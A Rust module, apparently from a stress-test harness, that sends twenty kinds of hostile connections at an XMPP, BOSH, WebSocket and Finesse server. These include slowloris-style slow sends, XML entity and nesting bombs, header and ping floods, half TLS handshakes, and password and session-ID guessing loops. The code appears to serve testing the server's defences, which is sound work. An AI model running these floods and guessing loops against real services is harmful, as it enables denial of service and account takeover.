//! The kinds of attacks.

use std::io::{Error, Result};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use tokio::time::sleep;

use super::Counts;
use super::enemy::{Enemy, source};
use super::insider::Insider;
use super::target::Addresses;

/// How many kinds there are.
pub const KINDS: usize = OUTSIDERS + 3;
/// Those that need no password. The others are an [`Insider`]'s, one for each transport.
pub(super) const OUTSIDERS: usize = 17;

const HEADER: &str = "<stream:stream to='localhost' version='1.0' xmlns='jabber:client' \
                      xmlns:stream='http://etherx.jabber.org/streams'>";
const BOSH: &str = "xmlns='http://jabber.org/protocol/httpbind'";
const UPGRADE: &str = "GET /ws/ HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
                       Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
                       Sec-WebSocket-Protocol: xmpp\r\n\r\n";

fn plain(user: &str, password: &str) -> String {
    let initial = STANDARD.encode(format!("\0{user}\0{password}"));
    format!("<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>{initial}</auth>")
}

fn post(length: usize, body: &str) -> String {
    format!(
        "POST /http-bind/ HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: {length}\r\n\r\n{body}"
    )
}

/// A masked frame with up to 125 bytes; the mask is zero.
fn frame(first: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![first, 0x80 | payload.len() as u8, 0, 0, 0, 0];
    frame.extend_from_slice(payload);
    frame
}

/// Whether connection `number` is that of a user who can log in.
pub(super) fn is_insider(number: usize) -> bool {
    number % KINDS >= OUTSIDERS
}

/// One connection of the kind that falls to `number`, until the server ends it.
pub(super) async fn once(at: Addresses, number: usize, counts: &Arc<Counts>) -> Result<()> {
    let kind = number % KINDS;
    let round = number / KINDS;
    let victim = format!("u{}", round % 20);
    if is_insider(number) {
        let insider = Insider::new(at, number, counts).await;
        return insider.map_err(Error::other)?.misbehave().await.map_err(Error::other);
    }
    let to: SocketAddr = match kind {
        0..=4 => at.xmpp,
        5 => at.xmpp_tls,
        6 => at.https,
        _ => at.http,
    };
    let mut enemy = Enemy::connect(to, source(round), kind, counts).await?;
    match kind {
        0 => enemy.linger().await,
        1 => giant_stanza(&mut enemy).await,
        2 => {
            enemy.send(HEADER).await?;
            enemy.dribble(b"<a>x</a>").await
        }
        3 => {
            let bombs = ["<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>]>", &"<a>".repeat(5000), "\u{1}\u{2}"];
            enemy.send(format!("{HEADER}{}", bombs[round % 3])).await?;
            enemy.linger().await
        }
        4 => guess_passwords(&mut enemy, &victim).await,
        // Half a ClientHello.
        5 | 6 => {
            enemy.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03").await?;
            enemy.dribble(&[0]).await
        }
        // A header that does not end: large, slow, many fields.
        7 => {
            enemy.send(b"GET / HTTP/1.1\r\nHost: x\r\nX-Filling: ").await?;
            enemy.send(vec![b'x'; 60_000]).await?;
            enemy.linger().await
        }
        8 => {
            enemy.send(b"GET /finesse/api/User/1001 HTTP/1.1\r\nHost: x\r\n").await?;
            enemy.dribble(b"X-A: b\r\n").await
        }
        9 => {
            let headers: String = (0..2000).map(|n| format!("X-{n}: y\r\n")).collect();
            enemy.send(format!("GET / HTTP/1.1\r\nHost: x\r\n{headers}\r\n")).await?;
            enemy.linger().await
        }
        // A body that does not come.
        10 => {
            let body = format!("<body rid='1' {BOSH}>{}", "<a/>".repeat(14_000));
            enemy.send(post(65_000, &body)).await?;
            enemy.linger().await
        }
        11 => sessions_without_login(&mut enemy).await,
        12 => guess_sids(&mut enemy).await,
        13 => guess_over_rest(&mut enemy, &victim).await,
        // A message in fragments that does not end.
        14 => {
            enemy.send(UPGRADE).await?;
            enemy.expect(" 101 ").await?;
            enemy.send(frame(0x01, b"<open")).await?;
            enemy.send(frame(0x00, &[b' '; 120]).repeat(500)).await?;
            enemy.linger().await
        }
        // Control frames, whose answers are not read.
        15 => {
            enemy.send(UPGRADE).await?;
            enemy.expect(" 101 ").await?;
            let pings = frame(0x89, &[b'p'; 125]).repeat(50);
            loop {
                enemy.send(&pings).await?;
                sleep(Duration::from_millis(100)).await;
            }
        }
        // Requests in a row, whose answers are not read.
        _ => loop {
            enemy.send("GET /finesse/api/SystemInfo HTTP/1.1\r\nHost: x\r\n\r\n".repeat(20)).await?;
            sleep(Duration::from_millis(100)).await;
        },
    }
}

/// Many elements that end nothing.
async fn giant_stanza(enemy: &mut Enemy) -> Result<()> {
    enemy.send(HEADER).await?;
    enemy.send(format!("<auth>{}", "<a/>".repeat(15_000))).await?;
    enemy.linger().await
}

async fn guess_passwords(enemy: &mut Enemy, user: &str) -> Result<()> {
    enemy.send(HEADER).await?;
    for guess in 0.. {
        enemy.send(plain(user, &format!("guess{guess}"))).await?;
        enemy.expect("failure").await?;
    }
    Ok(())
}

async fn sessions_without_login(enemy: &mut Enemy) -> Result<()> {
    for rid in 1.. {
        let body = format!("<body rid='{rid}' to='localhost' wait='60' hold='1' ver='1.9' {BOSH}/>");
        enemy.send(post(body.len(), &body)).await?;
        enemy.expect("</body>").await?;
        sleep(Duration::from_millis(200)).await;
    }
    Ok(())
}

async fn guess_sids(enemy: &mut Enemy) -> Result<()> {
    for guess in 0.. {
        let body = format!("<body rid='{guess}' sid='{guess:043}' {BOSH}/>");
        enemy.send(post(body.len(), &body)).await?;
        enemy.expect("HTTP/1.1").await?;
    }
    Ok(())
}

async fn guess_over_rest(enemy: &mut Enemy, user: &str) -> Result<()> {
    for guess in 0.. {
        let basic = STANDARD.encode(format!("{user}:guess{guess}"));
        let request = format!(
            "GET /finesse/api/User/{user} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic {basic}\r\n\r\n"
        );
        enemy.send(request).await?;
        enemy.expect("HTTP/1.1").await?;
    }
    Ok(())
}
